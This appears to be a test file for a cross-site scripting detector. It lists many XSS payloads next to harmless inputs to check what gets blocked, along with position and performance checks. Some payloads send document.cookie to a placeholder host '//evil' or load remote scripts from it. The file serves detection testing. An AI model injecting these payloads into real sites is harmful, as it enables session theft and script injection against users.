// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold placeholders of shells and templates
import { expect, test } from 'vitest'
import type { FieldInfo, Severity, Where } from '../../types.ts'
import { xss } from './detector.ts'

interface Found {
  severity: Severity
  start: number
  end: number
  paranoia: number
}

function detect(text: string, where: Where = 'query'): Found[] {
  const found: Found[] = []
  const field: FieldInfo = { where, name: 'q', isName: false }
  xss.detect(text, field, (severity, start, end, _message, paranoia = 1) => {
    found.push({ severity, start, end, paranoia })
  })
  return found
}

const isBlocked = (text: string, where?: Where) =>
  detect(text, where).some(({ severity, paranoia }) => severity === 'critical' && paranoia === 1)

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//x.y/z></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="//evil"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction=javascript:alert(1)>x',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<div style="width:expression(alert(1))">',
  '<div style="background:url(javascript:alert(1))">',
  '<link rel=stylesheet href="//evil/x.css">',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  'x onmouseover=alert(1)',
  "';alert(1)//",
  '"-alert(1)-"',
  "'+alert(document.cookie)+'",
  "\\';alert(1)//",
  '`-alert(1)-`',
  '</script><script>alert(1)</script>',
  '${alert(1)}',
  "{{constructor.constructor('alert(1)')()}}",
  "{{$on.constructor('alert(1)')()}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
  'javascript:alert(1)',
  'JaVaScRiPt:/*x*/alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'alert(1)',
  "eval(atob('YWxlcnQoMSk='))",
  "window['alert'](1)",
  'top["al"+"ert"](1)',
  "[]['constructor']['constructor']('alert(1)')()",
  "';window.location='//evil/'+document.cookie//",
  "'-import('//evil')-'",
  "\"};fetch('//evil?'+document.cookie);//",
  '<x onclick=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a onmouseover=x>y',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x',
  '<isindex action=javascript:alert(1)>',
  "<style>@import '//evil'</style>",
  '<xml:script src=x>',
  '＜script＞alert(1)＜/script＞',
  '<img src="x" onerror = "alert(1)"',
  '<img/src/onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '\'"--></style></script><svg onload=alert(1)>',
  '<a href=javas&#99;ript:alert(1)>',
  '1;alert(1)//',
  '</title><svg onload=alert(1)>',
  '<p onclick="location=\'//evil\'">',
  '[].map.call(document.cookie,alert)',
  "['x'].find(alert)",
  "new Function('alert(1)')()",
  "setTimeout('alert(1)',0)",
  'onerror=alert;throw 1',
  "'><svg onload=alert`1`>",
  '<ſcript>alert(1)</script>',
  '<template><script>x</script></template>',
]

const harmless = [
  '<b>bold</b>',
  'a < b',
  'a<b && c>d',
  'x <y',
  'List<String>',
  'Map<String, List<Object>>',
  'Promise<Script>',
  '<a@b.c>',
  'Ana <ana@example.org>',
  '<https://example.com/?a=b>',
  '<string>',
  '<object>',
  '<iframe>',
  'Use `<script>`x',
  'Use `alert()` to show a message',
  '<p>Hello <em>you</em></p>',
  '<a href="https://example.com" target="_blank">link</a>',
  '<img src="https://x/y.png" alt="a (b)">',
  '<img src="data:image/png;base64,iVBOR">',
  '<ul><li>One</li></ul>',
  'const f = (x) => x < 3',
  'if (a <b) { c = d }',
  'I love JavaScript: The Good Parts',
  'JavaScript: an introduction (2nd edition)',
  'data: text and more',
  'once = (x)',
  'on = true',
  'one=(1)',
  'online=yes(1)',
  'button.onclick = handle',
  'xhr.onload = function() { x() }',
  '<Button onClick={() => go()} />',
  '<button className="x" onClick={save}>Save</button>',
  '?onsale=true&onload=1',
  'window open',
  'please confirm (asap)',
  'Alert (critical): disk full',
  'confirm(s) and alert(s)',
  '{{name}}',
  '{{ user.name }}',
  '${HOME}',
  '${user.name(1)}',
  "fetch('https://api.example.com').then(r => r.json())",
  "console.log('a'); alert('b')",
  'call me (today)',
  '"quoted" (parenthesis)',
  "it's (fine)",
  "don't alert (anyone)",
  'style: (x)',
  'https://example.com/a?b=c(d)',
  'function foo() { return eval }',
  '3 < 5 and 7 > 2',
  '<3 you',
  '-->',
  '<!-- comment -->',
  'a <- b',
  'cat <<EOF',
  '<T extends Base<U>>',
  'describe<on>=(3)',
  '"title": "open (source)"',
  'x = y; open(file)',
  'print("hello")',
  'The description<br>line two<br/>end',
  '<svg width="10"><path d="M0 0"/></svg>',
  '<table border=1><tr><td>1</td></tr></table>',
  '@media print (min-width: 3px)',
  'import (x)',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
  '<xs:element name="script" type="string"/>',
  'subscription: (monthly)',
  "he said 'open (it)'",
  'style="color: red"',
]

test.each(attacks)('finds %j', (text) => {
  expect(isBlocked(text)).toBe(true)
})

test.each(harmless)('lets pass %j', (text) => {
  expect(isBlocked(text)).toBe(false)
})

test('every attack holds a byte or a cue that wakes the detector', () => {
  for (const text of attacks) {
    const lower = text.toLowerCase()
    const woken = [...xss.bytes].some((byte) => text.includes(byte)) || xss.cues.some((cue) => lower.includes(cue))
    expect(woken, text).toBe(true)
  }
})

test('ordinary values hold no byte that wakes the detector', () => {
  const ordinary = [
    'hello world',
    '3fa85f64-5717-4562-b3fc-2c963f66afa6',
    '2026-11-21T22:00:00Z',
    'ana.lopez@example.org',
    'https://example.com/a/b',
    '-12.5',
  ]
  for (const text of ordinary) expect([...xss.bytes].some((byte) => text.includes(byte))).toBe(false)
})

test('positions lie inside the text', () => {
  for (const text of [...attacks, ...harmless]) {
    for (const { start, end } of detect(text)) {
      expect(start).toBeGreaterThanOrEqual(0)
      expect(end).toBeGreaterThanOrEqual(start)
      expect(end).toBeLessThanOrEqual(text.length)
    }
  }
})

test('ends cut off anywhere never make it throw', () => {
  for (const text of attacks)
    for (let i = 0; i <= text.length; i++) detect(text.slice(i)).concat(detect(text.slice(0, i)))
})

// A quadratic pass over a megabyte would take minutes: the runner's time limit is the assertion.
test.each([
  '<',
  '<a ',
  "<a x='",
  '<style /*',
  '<style>',
  '<!--',
  'onx=alert(',
  'javascript:',
  'data:text/html',
  '{{',
  '${',
  '](a[',
  'constructor.',
  '";alert',
  '<script>`',
  '&#',
])('a megabyte of %j ends', (piece) => {
  detect(piece.repeat(Math.floor(2 ** 20 / piece.length)))
})
